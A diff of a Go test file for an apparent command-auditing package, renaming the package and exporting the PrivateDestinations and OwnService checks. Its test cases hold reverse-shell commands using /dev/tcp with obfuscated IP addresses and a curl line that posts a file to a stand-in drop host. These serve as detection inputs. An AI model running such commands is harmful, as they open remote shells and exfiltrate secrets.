@@ -1,4 +1,4 @@
-package audit
+package hosts
 
 import "testing"
 
@@ -36,8 +36,8 @@ func TestPrivateDestinations(t *testing.T) {
 		{"bash -i >& /dev/tcp/0x0a000001/4444 0>&1", false},
 		{"bash -i >& /dev/tcp/167772161/4444 0>&1", false},
 	} {
-		if got := privateDestinations(tc.line); got != tc.want {
-			t.Errorf("privateDestinations(%q) = %v, want %v (destinations %q)", tc.line, got, tc.want, destinations(tc.line))
+		if got := PrivateDestinations(tc.line); got != tc.want {
+			t.Errorf("PrivateDestinations(%q) = %v, want %v (destinations %q)", tc.line, got, tc.want, destinations(tc.line))
 		}
 	}
 }
@@ -62,12 +62,12 @@ func TestOwnServiceContext(t *testing.T) {
 		{"http://api.linear.app/graphql", false},
 	} {
 		file := []byte(line + "\ncurl -sS " + tc.url + " -H \"Authorization: $key\"\n")
-		if got := ownService(line, file); got != tc.want {
+		if got := OwnService(line, file); got != tc.want {
 			t.Errorf("ownService to %s = %v, want %v", tc.url, got, tc.want)
 		}
 	}
 	file := []byte(line + "\ncurl -sS https://api.linear.app/graphql -H \"Authorization: $key\"\ncurl -d @/tmp/k https://drop.example-x.net\n")
-	if ownService(line, file) {
+	if OwnService(line, file) {
 		t.Error("own_service with a second host in the file")
 	}
 }
